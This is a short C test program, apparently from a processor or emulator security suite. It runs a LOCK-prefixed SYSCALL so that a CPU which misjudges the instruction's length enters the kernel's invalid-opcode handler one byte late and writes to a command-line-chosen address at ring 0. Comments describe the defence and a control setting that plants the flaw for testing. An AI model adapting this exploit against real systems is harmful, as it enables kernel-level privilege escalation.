/* SYSCALL with a LOCK prefix, which is #UD.  A processor that takes it for two bytes long enters the host's #UD stub one byte
 * late: what follows there is ADD [RDX + 6], CH, at ring 0.
 * Defence: the processor knows its instructions' lengths.  Control: off=prefixes plants that flaw into the processor. */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    asm volatile(".byte 0xf0, 0x0f, 0x05" :: "d"(hexadecimal(argv[1]) - 6), "c"(0x4100) : "r11", "memory");
    return 0;
}
